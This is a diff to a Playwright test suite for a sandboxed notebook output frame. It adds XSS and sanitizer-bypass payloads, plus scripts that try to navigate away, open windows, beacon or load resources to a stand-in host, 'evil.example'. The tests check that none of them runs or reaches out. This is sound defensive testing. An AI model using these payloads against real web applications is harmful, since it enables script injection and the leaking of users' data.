@@ -40,6 +40,38 @@ async function ownPage(isBehindIngress: boolean): Promise<Page> {
   return page
 }
 
+const EVIL = 'http://evil.example'
+/** Markup that has got through the sanitizers of others: here it comes to the frame as it is. */
+const HOSTILE = [
+  '<svg><script>window.ran=1</script></svg>',
+  '<img src=x onerror="window.ran=1">',
+  '<svg><animate onbegin="window.ran=1" attributeName=x dur=1s>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=window.ran=1&gt;">',
+  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="window.ran=1">',
+  '<noscript><p title="</noscript><img src=x onerror=window.ran=1>">',
+  '<details open ontoggle="window.ran=1">x</details>',
+  '<input autofocus onfocus="window.ran=1">',
+  '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
+  '<a href="javascript:window.ran=1">x</a>',
+  '<a href="javascript:window.ran=1" target="_top">x</a>',
+  `<form action="javascript:window.ran=1"><button>x</button></form>`,
+  `<form action="${EVIL}/form" method="post" target="_top"><button>x</button></form>`,
+  `<img src="${EVIL}/image"><img srcset="${EVIL}/set 1x">`,
+  `<style>@import '${EVIL}/import'; p { background: url(${EVIL}/url) }</style>`,
+  `<link rel="stylesheet" href="${EVIL}/style"><link rel="prefetch" href="${EVIL}/prefetch">`,
+  `<video src="${EVIL}/video" autoplay></video><embed src="${EVIL}/embed"><object data="${EVIL}/object"></object>`,
+  `<base href="${EVIL}/"><img src="relative">`,
+]
+
+/** What the page, or a frame of it, asks of the other site. */
+function foreignRequests(page: Page): string[] {
+  const asked: string[] = []
+  page.context().on('request', (request) => {
+    if (request.url().startsWith(EVIL)) asked.push(request.url())
+  })
+  return asked
+}
+
 interface Shown {
   readonly height: number
   readonly text: string
@@ -78,7 +110,7 @@ describe.each([
   ['alone', false],
   ['behind the ingress', true],
 ])('the output frame, %s', (_name, isBehindIngress) => {
-  test('shows an output and tells its height; without trust nothing in it runs', async () => {
+  test('shows an output and tells its height; without trust nothing in it runs (CVE-2021-32797, CVE-2018-8768)', async () => {
     const page = await ownPage(isBehindIngress)
     const content =
       '<div style="height:123px" id="out">kept</div><script>out.textContent = "ran"</script>' +
@@ -92,7 +124,51 @@ describe.each([
     await page.close()
   }, 20_000)
 
-  test('runs trusted scripts, which reach neither server, cookies, storage nor the page', async () => {
+  test('runs nothing of hostile markup (CVE-2021-32797, CVE-2021-32798, CVE-2018-8768, CVE-2016-6524)', async () => {
+    const page = await ownPage(isBehindIngress)
+    for (const markup of HOSTILE) {
+      await page.evaluate(() => document.querySelector('iframe')?.remove())
+      await show(page, `${markup}<p id="end">kept</p>`, false)
+      const frame = page.frames().find((each) => each.url().includes('/output-frame'))
+      const ran = await frame?.evaluate(async () => {
+        for (const element of document.querySelectorAll('a, button, input')) {
+          element.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }))
+        }
+        // What loads, or fails to, tells so in a task of its own.
+        await new Promise((resolve) => setTimeout(resolve, 20))
+        return 'ran' in globalThis
+      })
+      // The page's own policy stops a refresh to another site: nothing is left of the frame then.
+      expect([markup, ran ?? false]).toEqual([markup, false])
+    }
+    expect(await page.evaluate(() => 'ran' in globalThis)).toBe(false)
+    await page.close()
+  }, 20_000)
+
+  test('keeps trusted outputs from taking the reader, or what they know, elsewhere (CVE-2026-44727)', async () => {
+    const page = await ownPage(isBehindIngress)
+    const asked = foreignRequests(page)
+    const address = page.url()
+    const content = `<p>kept</p><script>
+      for (const attempt of [
+        () => { top.location = '${EVIL}/top' },
+        () => { window.open('${EVIL}/window') },
+        () => { navigator.sendBeacon('${EVIL}/beacon') },
+        () => { location = '${EVIL}/frame' },
+      ]) try { attempt() } catch {}
+    </script>`
+    await show(page, content, true)
+    await page.waitForTimeout(200)
+    await page.evaluate(() => document.querySelector('iframe')?.remove())
+    await show(page, `<meta http-equiv="refresh" content="0;url=${EVIL}/refresh">`, true)
+    await page.waitForTimeout(200)
+    expect(page.url()).toBe(address)
+    expect(page.context().pages()).toHaveLength(1)
+    expect(asked).toEqual([])
+    await page.close()
+  }, 20_000)
+
+  test('runs trusted scripts, which reach neither server, cookies, storage nor the page (CVE-2026-44727, CVE-2018-19351)', async () => {
     const page = await ownPage(isBehindIngress)
     const content = `<div id="out">nothing ran</div><script>
       const attempts = {
